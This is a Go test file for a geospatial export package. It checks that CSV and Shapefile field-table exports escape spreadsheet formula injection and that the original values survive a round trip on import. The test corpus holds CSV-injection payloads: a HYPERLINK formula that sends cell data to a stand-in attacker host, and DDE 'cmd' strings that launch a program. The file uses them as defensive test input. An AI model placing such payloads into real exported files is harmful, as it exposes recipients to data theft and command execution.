package exchange

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/paulmach/orb"
	"golang.org/x/text/encoding/simplifiedchinese"
)

// hostileCells are texts a spreadsheet would run, or that look like what
// neutralizeCell writes, or that must be left alone.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"点击查看")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"=1+1",
	"'=1+1", // looks neutralised already
	"''@x",  // twice
	"-12.5", // a number in a text column: left alone
	"+86 578 2123456",
	"=",
	"-",
	"@",
	"'",
	"'-12.5",
	"普通名称",
	"a=b",
}

func TestNeutralizeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		{"'=1", "''=1"},
		{"-12.5", "-12.5"},
		{"+3", "+3"},
		{"-1e5", "-1e5"},
		{"-.5", "-.5"},
		{"-", "'-"},
		{"-1-1", "'-1-1"},
		{"'abc", "'abc"},
		{"'-12.5", "'-12.5"},
		{"", ""},
		{"名称", "名称"},
	} {
		if got := neutralizeCell(tc.in); got != tc.want {
			t.Errorf("neutralizeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := restoreCell(neutralizeCell(tc.in)); got != tc.in {
			t.Errorf("restoreCell(neutralizeCell(%q)) = %q", tc.in, got)
		}
	}
}

// hostileLayer is a layer whose names, attribute names and titles are the
// hostile corpus, with a numeric column holding negative numbers.
func hostileLayer() ExportLayer {
	l := ExportLayer{Name: "zones", Fields: []Field{
		{Name: "name", Type: FieldString, Title: "=名称"},
		{Name: "=cmd|' /C calc'!A0", Type: FieldString, Title: "@title"},
		{Name: "dz", Type: FieldReal, Title: "高程差"},
	}}
	for i, s := range hostileCells {
		lon := 119.90 + float64(i)*0.002
		l.Features = append(l.Features, Feature{
			Geometry: orb.Polygon{rect(lon, 28.44, lon+0.001, 28.441)},
			Properties: map[string]any{
				"name": s, "=cmd|' /C calc'!A0": "+" + s, "dz": -12.5 - float64(i),
			},
		})
	}
	return l
}

// checkCSVCells fails on any cell of a text column that a spreadsheet
// would run; numeric cells must stay numbers.
func checkCSVCells(t *testing.T, recs [][]string, numeric map[int]bool) {
	t.Helper()
	for r, rec := range recs {
		for c, cell := range rec {
			if r > 0 && numeric[c] {
				if !plainNumber.MatchString(cell) {
					t.Errorf("row %d column %d: %q is not a number", r, c, cell)
				}
				continue
			}
			if formulaLike(cell) {
				t.Errorf("row %d column %d: %q would run as a formula", r, c, cell)
			}
		}
	}
}

// TestCSVExportNeutralisesFormulas exports the hostile corpus as CSV
// (UTF-8 and GBK): no text cell, header included, starts a formula;
// negative numbers stay numbers; and the file imports back as the
// original text.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	requireGDAL(t)
	dir := t.TempDir()
	l := hostileLayer()
	for _, enc := range []string{EncodingUTF8, EncodingGBK} {
		t.Run(enc, func(t *testing.T) {
			p := exportFile(t, dir, []ExportLayer{l}, ExportOptions{Format: FormatCSV, Encoding: enc, Name: "hostile_" + enc})
			b, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			if enc == EncodingGBK {
				if b, err = simplifiedchinese.GBK.NewDecoder().Bytes(b); err != nil {
					t.Fatal(err)
				}
			}
			cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
			recs, err := cr.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != len(hostileCells)+1 {
				t.Fatalf("%d rows, want %d", len(recs), len(hostileCells)+1)
			}
			numeric := map[int]bool{}
			for c, h := range recs[0] {
				if h == "dz" {
					numeric[c] = true
				}
			}
			if len(numeric) != 1 {
				t.Fatalf("header %q", recs[0])
			}
			checkCSVCells(t, recs, numeric)
			if !strings.Contains(string(b), ",-12.5") {
				t.Errorf("the number -12.5 is not written as a number:\n%s", b)
			}

			ds, err := Inspect(context.Background(), p, ImportOptions{Encoding: enc})
			if err != nil {
				t.Fatal(err)
			}
			if !contains(ds.Fields, "=cmd|' /C calc'!A0") {
				t.Errorf("fields read back: %q", ds.Fields)
			}
			for i, f := range ds.Features {
				want := strings.ReplaceAll(hostileCells[i], "\r", "\n") // GDAL reads a CR in a cell as LF
				if got := f.Properties["name"]; got != want {
					t.Errorf("feature %d: name read back as %q, want %q", i+1, got, want)
				}
				if got := f.Properties["=cmd|' /C calc'!A0"]; got != "+"+want {
					t.Errorf("feature %d: attribute read back as %q, want %q", i+1, got, "+"+want)
				}
			}
		})
	}
}

// TestFieldTableNeutralisesFormulas: the fields.csv beside exported
// Shapefiles lists full field names and titles from imported files; none
// may run as a formula, and the names still come back on import.
func TestFieldTableNeutralisesFormulas(t *testing.T) {
	requireGDAL(t)
	dir := t.TempDir()
	p := exportFile(t, dir, []ExportLayer{hostileLayer()}, ExportOptions{Format: FormatShp, Name: "hostile"})
	out := filepath.Join(dir, "unzipped")
	unzipTo(t, p, out)
	b, err := os.ReadFile(filepath.Join(out, fieldTableName))
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	checkCSVCells(t, recs, nil)
	if !strings.Contains(string(b), "'=cmd") || !strings.Contains(string(b), "'@title") {
		t.Errorf("fields.csv does not neutralise the hostile name and title:\n%s", b)
	}
	ds, err := Inspect(context.Background(), p, ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !contains(ds.Fields, "=cmd|' /C calc'!A0") {
		t.Errorf("the full field name was not restored from fields.csv: %q", ds.Fields)
	}
}
